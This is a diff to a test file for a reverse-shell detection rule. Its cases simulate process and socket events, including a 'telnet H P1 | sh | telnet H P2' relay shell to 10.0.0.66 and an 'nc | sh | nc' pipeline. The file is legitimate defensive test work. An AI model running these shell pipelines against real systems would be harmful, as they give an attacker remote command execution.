@@ -122,6 +122,19 @@ const relays: Case[] = [
     ],
     relay: { program: "node", fds: [0, 1, 2], input: 1, output: 1 },
   },
+  {
+    name: "one connection per direction to one host: telnet H P1 | sh | telnet H P2",
+    steps: [
+      ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
+      ...start(proc(301, 100, "telnet"), "/usr/bin/inetutils-telnet", ["telnet", "10.0.0.66", "4444"], [tty(1), pipe(31), tty(1)], 1),
+      outbound(proc(301, 100, "telnet"), SOCK, 2),
+      ...start(proc(303, 100, "telnet"), "/usr/bin/inetutils-telnet", ["telnet", "10.0.0.66", "4445"], [pipe(32), tty(1), tty(1)], 2),
+      outbound(proc(303, 100, "telnet"), SOCK + 1, 2, { address: "10.0.0.66", port: 4445 }),
+      { holds: { 301: [h(1, "pipe:31", "write"), h(3, `sock:${SOCK}`)], 303: [h(0, "pipe:32", "read"), h(3, `sock:${SOCK + 1}`)], 302: [h(0, "pipe:31", "read"), h(1, "pipe:32", "write")] } },
+      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), pipe(32), tty(1)], 3),
+    ],
+    relay: { program: "inetutils-telnet", fds: [0, 1], input: 1, output: 1 },
+  },
 ];
 
 const notRelays: Case[] = [
@@ -170,13 +183,13 @@ const notRelays: Case[] = [
     ],
   },
   {
-    name: "input and output on two different connections (nc | sh | nc)",
+    name: "input and output on two connections to two hosts (a fetched script whose output is shipped elsewhere)",
     steps: [
       ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
       ...start(proc(301, 100, "nc"), "/usr/bin/nc", ["nc", "h", "1"], [tty(1), pipe(31), tty(1)], 1),
       outbound(proc(301, 100, "nc"), SOCK, 2),
       ...start(proc(303, 100, "nc"), "/usr/bin/nc", ["nc", "h", "2"], [pipe(32), tty(1), tty(1)], 2),
-      outbound(proc(303, 100, "nc"), SOCK + 1, 2),
+      outbound(proc(303, 100, "nc"), SOCK + 1, 2, { address: "10.0.0.77", port: 514 }),
       { holds: { 301: [h(1, "pipe:31", "write"), h(3, `sock:${SOCK}`)], 303: [h(0, "pipe:32", "read"), h(3, `sock:${SOCK + 1}`)], 302: [h(0, "pipe:31", "read"), h(1, "pipe:32", "write")] } },
       ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), pipe(32), tty(1)], 3),
     ],
@@ -229,6 +242,12 @@ describe("RELAY-001: relay shells give one finding each", () => {
     expect(f.sockeye.relay.output_chain).toHaveLength(c.relay!.output);
     expect(f.rule.severity).toBe("high");
     expect(f.threat?.tactic.id).toEqual(["TA0002", "TA0011"]);
+  });
+
+  it("a relay split over two connections names both: the input's as the destination, the output's beside it", () => {
+    const c = relays.find((r) => r.name.startsWith("one connection per direction"))!;
+    const f = run(c.steps).findings[0]! as unknown as Finding & { sockeye: { relay: { output_socket: unknown } } };
+    expect(f.sockeye.relay.output_socket).toEqual({ socket_inode: SOCK + 1, remote: { address: "10.0.0.66", port: 4445 } });
   });
 });
 
